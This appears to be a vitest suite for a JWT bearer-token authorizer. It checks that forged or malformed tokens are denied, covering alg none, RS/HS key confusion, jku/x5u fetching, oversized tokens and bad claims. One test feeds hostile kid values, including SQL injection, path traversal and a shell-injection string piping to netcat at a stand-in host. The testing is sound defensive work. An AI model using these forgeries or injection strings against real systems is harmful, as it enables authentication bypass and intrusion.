import { createPublicKey } from 'node:crypto';
import { CompactSign, EncryptJWT, exportJWK, exportSPKI, generateKeyPair, SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DecisionRecord } from './audit.ts';
import { createAuthorizer, type Authorizer } from './create-authorizer.ts';
import type { DenialCode } from './denial-codes.ts';
import {
  accessToken,
  authorizerEvent,
  configFor,
  countingServer,
  IssuerServer,
  nowSeconds,
  signingKey,
  type SigningKey,
} from './test-fixtures.ts';

let issuer: IssuerServer;
let es: SigningKey;
let rs: SigningKey;
let attacker: SigningKey;
let authorize: Authorizer;
const audit: DecisionRecord[] = [];

beforeAll(async () => {
  [es, rs, attacker] = await Promise.all([signingKey('ES256', 'es-1'), signingKey('RS256', 'rs-1'), signingKey('ES256', 'es-1')]);
  issuer = await IssuerServer.start([es.publicJwk, rs.publicJwk]);
  authorize = createAuthorizer(configFor(issuer.issuer), {
    logger: { info: (_m, r) => audit.push(r), warn: (_m, r) => audit.push(r), error() {} },
  });
});
afterAll(() => issuer.stop());

const b64 = (value: unknown) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');

async function decide(token: string): Promise<{ isAuthorized: boolean; code: DenialCode | undefined }> {
  const result = await authorize(authorizerEvent({ authorization: `Bearer ${token}` }));
  return { isAuthorized: result.isAuthorized, code: audit.at(-1)?.code };
}

async function expectDenied(token: string, code: DenialCode) {
  expect(await decide(token)).toEqual({ isAuthorized: false, code });
}

describe('positive controls', () => {
  it('allows a valid ES256 token and hands the app its claims', async () => {
    const result = await authorize(authorizerEvent({ authorization: `Bearer ${await accessToken(es, issuer.issuer)}` }));
    expect(result).toEqual({
      isAuthorized: true,
      context: {
        sub: 'alice',
        scopes: ['orders:read', 'orders:write'],
        clientId: 'cli',
        tokenType: 'Bearer',
        app: 'orders',
        iss: issuer.issuer,
        exp: expect.any(Number),
        jti: 'token-1',
      },
    });
  });

  it('allows a valid RS256 token, with the scheme in any case and scp as an array', async () => {
    const token = await accessToken(rs, issuer.issuer, { scope: undefined, scp: ['orders:read'] });
    const result = await authorize(authorizerEvent({ authorization: `bEaReR ${token}` }));
    expect(result.isAuthorized).toBe(true);
    expect(result.context?.scopes).toEqual(['orders:read']);
  });

  it('accepts an expiry inside the clock tolerance', async () => {
    expect((await decide(await accessToken(es, issuer.issuer, { exp: nowSeconds() - 10 }))).isAuthorized).toBe(true);
  });
});

describe('algorithm attacks', () => {
  it.each(['none', 'None', 'NONE', 'nOnE'])('rejects alg %s', async (alg) => {
    const token = `${b64({ alg, kid: 'es-1', typ: 'JWT' })}.${b64({ iss: issuer.issuer, aud: 'frontdesk-api', sub: 'alice', exp: nowSeconds() + 60, scope: 'orders:read' })}.`;
    await expectDenied(token, 'unsupported_alg');
  });

  it('rejects RS/HS confusion: HS256 keyed with the RSA public key', async () => {
    const pem = await exportSPKI(createPublicKey({ key: rs.publicJwk as never, format: 'jwk' }) as never);
    const token = await new SignJWT({
      iss: issuer.issuer,
      aud: 'frontdesk-api',
      sub: 'alice',
      exp: nowSeconds() + 60,
      scope: 'orders:read',
    })
      .setProtectedHeader({ alg: 'HS256', kid: 'rs-1' })
      .sign(new TextEncoder().encode(pem));
    await expectDenied(token, 'unsupported_alg');
  });

  it('rejects an allow-listed alg that does not match the key named by kid (ES256 header, RSA key)', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, {}, { kid: 'rs-1' }), 'unknown_kid');
  });
});

describe('key source attacks', () => {
  it('ignores an embedded jwk: an attacker key in the header does not verify', async () => {
    await expectDenied(await accessToken(attacker, issuer.issuer, {}, { jwk: attacker.publicJwk }), 'bad_signature');
  });

  it('never fetches a jku URL', async () => {
    const evil = await countingServer();
    const token = await accessToken(attacker, issuer.issuer, {}, { kid: 'evil', jku: `${evil.url}/jwks` });
    await expectDenied(token, 'unknown_kid');
    expect(evil.requests()).toBe(0);
    await evil.stop();
  });

  it('never fetches an x5u URL', async () => {
    const evil = await countingServer();
    const token = await accessToken(attacker, issuer.issuer, {}, { kid: 'evil', x5u: `${evil.url}/cert.pem` });
    await expectDenied(token, 'unknown_kid');
    expect(evil.requests()).toBe(0);
    await evil.stop();
  });

  it.each([
    '../../../../../../dev/null',
    "' OR '1'='1' --",
    '$(touch /tmp/pwned); `id` | nc evil 1',
    'https://evil.example/jwks.json',
    '\u0000',
    'a'.repeat(2000),
  ])('treats the hostile kid %j as an unknown key', async (kid) => {
    await expectDenied(await accessToken(attacker, issuer.issuer, {}, { kid }), 'unknown_kid');
  });

  it('rejects a non-string kid', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, {}, { kid: 42 }), 'unknown_kid');
  });
});

describe('signature and format', () => {
  it('rejects a flipped signature', async () => {
    const token = await accessToken(es, issuer.issuer);
    const [h, p, s] = token.split('.') as [string, string, string];
    const flipped = s[10] === 'A' ? 'B' : 'A';
    await expectDenied(`${h}.${p}.${s.slice(0, 10)}${flipped}${s.slice(11)}`, 'bad_signature');
  });

  it('rejects a payload swapped under a valid signature', async () => {
    const [h, , s] = (await accessToken(es, issuer.issuer)).split('.');
    const p = b64({ iss: issuer.issuer, aud: 'frontdesk-api', sub: 'root', exp: nowSeconds() + 60, scope: 'orders:read' });
    await expectDenied(`${h}.${p}.${s}`, 'bad_signature');
  });

  it('rejects an unknown crit extension', async () => {
    const payload = new TextEncoder().encode(
      JSON.stringify({ iss: issuer.issuer, aud: 'frontdesk-api', sub: 'alice', exp: nowSeconds() + 60 }),
    );
    const token = await new CompactSign(payload)
      .setProtectedHeader({ alg: 'ES256', kid: 'es-1', crit: ['urn:evil'], 'urn:evil': true })
      .sign(es.privateKey, { crit: { 'urn:evil': true } });
    await expectDenied(token, 'unknown_crit');
  });

  it('rejects a JWE (encrypted token)', async () => {
    const { publicKey } = await generateKeyPair('RSA-OAEP-256');
    const token = await new EncryptJWT({ sub: 'alice' }).setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A256GCM' }).encrypt(publicKey);
    expect(token.split('.')).toHaveLength(5);
    await expectDenied(token, 'malformed_token');
  });

  it('rejects a nested JWT (cty JWT, a token inside a token)', async () => {
    const inner = await accessToken(es, issuer.issuer);
    const token = await new CompactSign(new TextEncoder().encode(inner))
      .setProtectedHeader({ alg: 'ES256', kid: 'es-1', typ: 'at+jwt', cty: 'JWT' })
      .sign(es.privateKey);
    await expectDenied(token, 'malformed_token');
  });

  it('refuses a token over 8 KiB before parsing it', async () => {
    await expectDenied(`${'a'.repeat(9000)}.b.c`, 'token_too_large');
  });

  it('refuses a validly signed token over 8 KiB', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, { padding: 'x'.repeat(8200) }), 'token_too_large');
  });

  it('rejects a DPoP proof presented as an access token', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, {}, { typ: 'dpop+jwt' }), 'wrong_token_type');
  });

  it('rejects garbage in place of a token', async () => {
    await expectDenied('not-a-jwt', 'malformed_token');
  });

  it('rejects a validly signed claims set that is not JSON', async () => {
    const token = await new CompactSign(new TextEncoder().encode('{not json'))
      .setProtectedHeader({ alg: 'ES256', kid: 'es-1', typ: 'at+jwt' })
      .sign(es.privateKey);
    await expectDenied(token, 'malformed_token');
  });
});

describe('claims', () => {
  it('rejects a token without exp', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, { exp: undefined }), 'missing_claim');
  });
  it('rejects a non-numeric exp', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, { exp: 'tomorrow' }), 'missing_claim');
  });
  it('rejects an expired token', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, { exp: nowSeconds() - 120 }), 'expired');
  });
  it('rejects a token whose nbf is in the future', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, { nbf: nowSeconds() + 120 }), 'not_yet_valid');
  });
  it('rejects a token whose iat is in the future', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, { iat: nowSeconds() + 120 }), 'not_yet_valid');
  });
  it('rejects a token from another issuer', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, { iss: 'https://evil.example' }), 'wrong_issuer');
  });
  it('rejects a token without iss', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, { iss: undefined }), 'wrong_issuer');
  });
  it('rejects a token for another audience', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, { aud: 'billing-api' }), 'wrong_audience');
  });
  it('rejects a token without aud', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, { aud: undefined }), 'wrong_audience');
  });
  it('accepts aud as an array naming any configured audience', async () => {
    expect((await decide(await accessToken(es, issuer.issuer, { aud: ['x', 'other-api'] }))).isAuthorized).toBe(true);
  });
  it('rejects a token without sub', async () => {
    await expectDenied(await accessToken(es, issuer.issuer, { sub: undefined }), 'missing_claim');
  });
});

describe('Authorization header', () => {
  it('denies a request without Authorization', async () => {
    expect(await authorize(authorizerEvent({}))).toEqual({ isAuthorized: false });
    expect(audit.at(-1)?.code).toBe('missing_token');
  });
  it('denies an unknown scheme', async () => {
    await authorize(authorizerEvent({ authorization: `Basic ${b64('alice:secret')}` }));
    expect(audit.at(-1)?.code).toBe('unsupported_scheme');
  });
  it('denies two Authorization headers joined by API Gateway', async () => {
    const token = await accessToken(es, issuer.issuer);
    await authorize(authorizerEvent({ authorization: `Bearer ${token},Bearer ${token}` }));
    expect(audit.at(-1)?.code).toBe('malformed_token');
  });
  it('writes no token into the audit line', async () => {
    const token = await accessToken(es, issuer.issuer);
    await decide(token);
    const line = JSON.stringify(audit.at(-1));
    expect(line).not.toContain(token.split('.')[2]);
    expect(audit.at(-1)).toMatchObject({
      decision: 'allow',
      sub: 'alice',
      client: 'cli',
      route: 'GET /items/{id}',
      app: 'orders',
      stage: 'dev',
      requestId: 'req-1',
    });
    expect(audit.at(-1)?.tokenIdHash).toMatch(/^[A-Za-z0-9_-]{16}$/);
  });
});

describe('JWKs are only those of the issuer', () => {
  it('an exported attacker JWK is not trusted just because it is well-formed', async () => {
    const { publicKey } = await generateKeyPair('ES256');
    expect((await exportJWK(publicKey)).kty).toBe('EC');
    await expectDenied(await accessToken(attacker, issuer.issuer), 'bad_signature');
  });
});
